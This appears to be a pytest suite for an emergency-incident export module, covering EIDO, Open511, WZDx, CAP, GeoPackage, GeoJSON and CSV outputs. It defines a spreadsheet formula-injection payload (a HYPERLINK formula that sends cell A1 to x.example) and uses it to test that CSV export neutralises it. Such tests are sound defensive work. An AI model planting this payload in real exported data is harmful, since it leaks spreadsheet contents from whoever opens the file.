"""Exports: structure against the real samples, CAP round trip, GeoPackage/GeoJSON, safe CSV."""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import geopandas as gpd
import pytest
from shapely.geometry import LineString, Point
from sqlalchemy.orm import Session, sessionmaker

from incidents.exports import (
    cap_notice,
    csv_layer,
    eido_documents,
    geojson_layer,
    open511_events,
    safe_cell,
    write_gpkg,
    wzdx_feed,
)
from incidents.store.engine import session_scope
from incidents.store.models import Assignment, Hazard, Incident, Report, Task, Unit
from ingest.cap import parse_cap

NOW = datetime(2025, 12, 14, 3, 0, tzinfo=UTC)
EVIL = '=HYPERLINK("http://x.example/?"&A1,"click")'


@pytest.fixture
def filled(session_factory: sessionmaker[Session]) -> sessionmaker[Session]:
    """An incident from two calls with a confirmed unit, an icy and a closed segment."""
    with session_scope(session_factory) as s:
        reps = [
            Report(
                kind="call",
                natural_key=f"XL-{i}",
                source="calls.csv",
                observed_at=NOW - timedelta(minutes=40 - i),
                geometry=Point(114.9, 44.1),
                attributes={
                    "phone_masked": "138****5678",
                    "vehicles": 35,
                    "people": 72,
                    "notes": EVIL if i == 0 else "-40 度，车辆被困",
                },
            )
            for i in range(2)
        ]
        s.add_all(reps)
        s.flush()
        inc = Incident(
            kind="stranded",
            title="35 vehicles stranded on Y001",
            geometry=Point(114.9, 44.1),
            road_code="Y001",
            km=12.3,
            vehicles=35,
            people=72,
            first_report_at=NOW - timedelta(minutes=40),
            last_report_at=NOW - timedelta(minutes=39),
            priority=320.0,
            report_ids=[r.id for r in reps],
            notes=EVIL,
        )
        s.add(inc)
        s.flush()
        t = Task(
            incident_id=inc.id,
            kind="rescue",
            capability="rescue",
            priority=320.0,
            geometry=inc.geometry,
            created_at=NOW,
        )
        s.add(
            Unit(
                id="XL-ABG-RV01",
                name="救援1",
                vehicle_class="rescue",
                capabilities=["rescue"],
                geometry=Point(114.96, 44.02),
            )
        )
        s.add(t)
        s.flush()
        s.add(
            Assignment(
                unit_id="XL-ABG-RV01",
                task_id=t.id,
                state="confirmed",
                confirmed_at=NOW,
                route=LineString([(114.96, 44.02), (114.9, 44.1)]),
            )
        )
        for cond, x in (("black_ice", 116.0), ("closed", 116.3)):
            s.add(
                Hazard(
                    segment_id=f"G207:{x}",
                    condition=cond,
                    geometry=LineString([(x, 43.9), (x + 0.012, 43.9)]),
                    road_code="G207",
                    km=20.0 if cond == "black_ice" else 45.0,
                    first_seen=NOW - timedelta(hours=2),
                    last_seen=NOW,
                )
            )
    return session_factory


def _ids_and_refs(doc: Any) -> tuple[set[str], list[str]]:
    ids: set[str] = set()
    refs: list[str] = []

    def walk(x: Any) -> None:
        if isinstance(x, dict):
            if "$id" in x:
                ids.add(x["$id"])
            if set(x) == {"$ref"}:
                refs.append(x["$ref"])
            for v in x.values():
                walk(v)
        elif isinstance(x, list):
            for v in x:
                walk(v)

    walk(doc)
    return ids, refs


def test_eido_follows_the_nena_sample(filled: sessionmaker[Session], realdata: Path) -> None:
    sample = json.loads((realdata / "eido" / "sample_call_transfer_eido.json").read_text())
    with session_scope(filled) as s:
        docs = eido_documents(s, now=NOW)
    assert len(docs) == 1
    doc = docs[0]
    assert set(sample) <= set(doc)  # the same top-level keys (plus incident and unit lists)
    for key, value in sample.items():
        if isinstance(value, list) and value and isinstance(value[0], dict):
            assert doc[key], key
            for comp in doc[key]:
                assert {"$id", "lastUpdateTimeStamp", "updatedByAgencyReference"} <= set(comp)
    # the call component carries every field of the sample's call component
    assert set(sample["callComponent"][0]) <= set(doc["callComponent"][0])
    ids, refs = _ids_and_refs(doc)
    assert refs and set(refs) <= ids  # every $ref resolves inside the document
    assert (
        "<gml:pos>44.100000 114.900000</gml:pos>" in doc["locationComponent"][0]["locationByValue"]
    )
    unit = doc["emergencyResourceComponent"][0]
    assert unit["emergencyResourceName"] == "XL-ABG-RV01"
    assert unit["emergencyResourceTypeCommonRegistryText"] == "rescue"
    assert unit["primaryUnitStatusRegistryText"] == "Dispatched"  # confirmed
    assert doc["dispatchComponent"][0]["emergencyResourceReference"] == [{"$ref": unit["$id"]}]
    assert doc["incidentComponent"]["incidentTypeCommonRegistryText"] == "stranded"
    assert doc["callbackComponent"][0]["callBackInformationUri"] == ["tel:138****5678"]


def test_open511_and_wzdx_match_the_examples(filled: sessionmaker[Session], realdata: Path) -> None:
    feeds = realdata / "traffic_feeds"
    o_ex = json.loads((feeds / "open511" / "tmdd-output-1.json").read_text())
    w_ex = json.loads(
        (
            feeds / "wzdx" / "WorkZoneFeed" / "scenario1_simple_linestring_example.geojson"
        ).read_text()
    )
    with session_scope(filled) as s:
        o = open511_events(s, now=NOW)
        w = wzdx_feed(s, now=NOW)
    assert set(o_ex) <= set(o)
    assert len(o["events"]) == 3
    for e in o["events"]:
        assert set(o_ex["events"][0]) <= set(e)
        assert e["geography"]["type"] in ("Point", "LineString")
    assert {e["event_type"] for e in o["events"]} == {"INCIDENT", "WEATHER_CONDITION"}

    assert {"feed_info", "type", "features"} <= set(w) and w["type"] == "FeatureCollection"
    assert w["feed_info"]["version"] == "4.2"
    required_info = {"update_date", "publisher", "version", "data_sources"}
    assert required_info <= set(w_ex["feed_info"]) and required_info <= set(w["feed_info"])
    ex_core = set(w_ex["features"][0]["properties"]["core_details"])
    assert len(w["features"]) == 2
    for f in w["features"]:
        assert set(w_ex["features"][0]) <= set(f)
        core = f["properties"]["core_details"]
        assert ex_core - {"road_names"} <= set(core) | {"name"}
        assert f["geometry"]["type"] == "LineString"
        assert f["properties"]["core_details"]["creation_date"].endswith("Z")
    impacts = {f["properties"]["vehicle_impact"] for f in w["features"]}
    assert impacts == {"all-lanes-closed", "all-lanes-open"}


def test_cap_notice_parses_back_with_the_project_parser(filled: sessionmaker[Session]) -> None:
    with session_scope(filled) as s:
        xml = cap_notice(s, now=NOW)
    res = parse_cap(xml, "notice.xml")
    assert res.quarantine == []
    assert res.alerts is not None and len(res.alerts) == 1
    a = res.alerts.iloc[0]
    assert a["msg_type"] == "Alert" and a["status"] == "Actual"
    assert a["language"].startswith("zh") and len(a["infos"]) == 2
    assert a["hazard_class"] == "road_icing"
    assert a["geometry"].contains(Point(116.006, 43.9))  # around the icy segment
    assert a["geometry"].contains(Point(116.306, 43.9))  # and the closed one
    assert a["expires"] == NOW + timedelta(hours=6)


def test_geojson_gpkg_and_csv(filled: sessionmaker[Session], tmp_path: Path) -> None:
    with session_scope(filled) as s:
        fc = geojson_layer(s, "hazards")
        counts = write_gpkg(s, tmp_path / "out.gpkg")
        text = csv_layer(s, "incidents")
        with pytest.raises(ValueError, match="unknown layer"):
            csv_layer(s, "nope")
    assert fc["type"] == "FeatureCollection" and len(fc["features"]) == 2
    assert counts["incidents"] == 1 and counts["assignments"] == 1
    back = gpd.read_file(tmp_path / "out.gpkg", layer="hazards", engine="pyogrio")
    assert len(back) == 2 and back.crs.to_epsg() == 4326
    rows = list(csv.DictReader(io.StringIO(text)))
    assert rows[0]["notes"] == "'" + EVIL  # neutralised
    assert rows[0]["people"] == "72"  # numbers untouched
    assert rows[0]["wkt"] == "POINT (114.9 44.1)"


@pytest.mark.parametrize(
    ("cell", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+86 138", "'+86 138"),
        ("-40 度", "'-40 度"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("normal", "normal"),
        (-40, -40),
        (3.5, 3.5),
    ],
)
def test_safe_cell(cell: object, expected: object) -> None:
    assert safe_cell(cell) == expected


def test_cli_export_and_argument_errors(filled: sessionmaker[Session], tmp_path: Path) -> None:
    from typer.testing import CliRunner

    from incidents.cli.app import app

    url = str(filled.kw["bind"].url)
    runner = CliRunner()
    out = tmp_path / "x.csv"
    res = runner.invoke(
        app, ["export", "csv", "--layer", "hazards", "--db", url, "--out", str(out)]
    )
    assert res.exit_code == 0, res.output
    assert out.read_text(encoding="utf-8").startswith("id,condition,state")
    res = runner.invoke(app, ["export", "wzdx", "--db", url])
    assert res.exit_code == 0 and json.loads(res.output)["feed_info"]["version"] == "4.2"
    assert runner.invoke(app, ["export", "kml", "--db", url]).exit_code == 2
    assert runner.invoke(app, ["export", "gpkg", "--db", url]).exit_code == 2  # needs --out
    assert runner.invoke(app, ["simulate", "nowhere", "--policy", "fastest"]).exit_code == 2
    res = runner.invoke(app, ["simulate", str(tmp_path / "nowhere"), "--db", url])
    assert res.exit_code == 1


def test_registry_renders_every_kind_like_its_writer(
    filled: sessionmaker[Session], tmp_path: Path
) -> None:
    from incidents.errors import UnknownExportError, UnknownLayerError
    from incidents.exports import EXPORT_KINDS, WRITERS, render, write_gpkg

    assert EXPORT_KINDS == ("eido", "open511", "wzdx", "cap", "geojson", "gpkg", "csv")
    with session_scope(filled) as s:
        out = {kind: render(s, kind, "hazards") for kind in EXPORT_KINDS}
        assert out["csv"].decode("utf-8") == csv_layer(s, "hazards")
        assert json.loads(out["geojson"]) == geojson_layer(s, "hazards")
        assert json.loads(out["eido"])[0]["incidentComponent"]["peopleCount"] == 72
        cap = parse_cap(out["cap"], "registry.xml")
        assert cap.quarantine == [] and cap.alerts is not None and len(cap.alerts) == 1
        write_gpkg(s, tmp_path / "direct.gpkg")
        with pytest.raises(UnknownExportError, match="'pdf'"):
            render(s, "pdf")
        with pytest.raises(UnknownLayerError, match="'roads'") as bad_layer:
            render(s, "csv", "roads")
        assert isinstance(bad_layer.value, ValueError)
    assert out["gpkg"].startswith(b"SQLite format 3\x00")
    path = tmp_path / "via_registry.gpkg"
    path.write_bytes(out["gpkg"])
    from_registry = gpd.read_file(path, layer="hazards", engine="pyogrio")
    direct = gpd.read_file(tmp_path / "direct.gpkg", layer="hazards", engine="pyogrio")
    assert list(from_registry["condition"]) == list(direct["condition"])
    assert {w.kind for w in WRITERS.values() if w.layered} == {"geojson", "csv"}
